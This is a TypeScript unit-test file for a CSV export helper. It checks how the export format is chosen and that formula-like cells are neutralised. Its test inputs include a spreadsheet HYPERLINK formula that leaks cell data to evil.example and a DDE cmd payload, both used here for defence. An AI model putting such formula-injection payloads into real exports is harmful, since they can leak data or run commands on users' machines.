import { csvText, wantsCsv } from './csv-report';

const request = (query: Record<string, string>, accept?: string) => ({
  query,
  headers: accept === undefined ? {} : { accept },
});

describe('choosing CSV', () => {
  it('follows ?format= first, then the Accept header', () => {
    expect(wantsCsv(request({ format: 'csv' }))).toBe(true);
    expect(wantsCsv(request({ format: 'json' }, 'text/csv'))).toBe(false);
    expect(wantsCsv(request({}, 'text/csv'))).toBe(true);
    expect(wantsCsv(request({}, 'application/json, text/csv;q=0.5'))).toBe(true);
    expect(wantsCsv(request({}, 'text/csvx'))).toBe(false);
    expect(wantsCsv(request({}, '*/*'))).toBe(false);
    expect(wantsCsv(request({}))).toBe(false);
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  const lines = (rows: (string | number | null)[][]) =>
    csvText({ columns: ['cell'], rows })
      .replace(/^\uFEFF/, '')
      .split('\n')
      .slice(1, -1);

  it('neutralises text starting with =, +, -, @, tab or CR with a leading apostrophe', () => {
    expect(lines([['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")']])).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Xem"")"`,
    ]);
    expect(lines([['+1+1'], ['-2+3'], ['@SUM(A1:A9)'], ['\t=1+1'], ["=cmd|' /C calc'!A0"]])).toEqual([
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'=cmd|' /C calc'!A0",
    ]);
    expect(csvText({ columns: ['cell'], rows: [['\r=1+1']] })).toContain("'\r=1+1");
  });

  it('also neutralises the full-width signs some spreadsheets read as the ASCII ones', () => {
    expect(lines([['＝1+1'], ['＋1'], ['－1'], ['＠A1']])).toEqual(["'＝1+1", "'＋1", "'－1", "'＠A1"]);
  });

  it('leaves numbers typed as numbers alone, negative ones included, and text that is no formula', () => {
    expect(lines([[-12.5], [-100], [0], [1_250_000]])).toEqual(['-12.5', '-100', '0', '1250000']);
    expect(lines([['Chè Tân Cương'], ['2026-06-01'], ['a=b'], ['HTX -1'], [null], ['']])).toEqual([
      'Chè Tân Cương',
      '2026-06-01',
      'a=b',
      'HTX -1',
      '',
      '',
    ]);
    // the same characters as text are neutralised: a text cell may come from a user
    expect(lines([['-12.5']])).toEqual(["'-12.5"]);
  });

  it('neutralises the header row too and keeps the byte order mark', () => {
    const text = csvText({ columns: ['=x', 'y'], rows: [] });
    expect(text).toBe("\uFEFF'=x,y\n");
  });
});
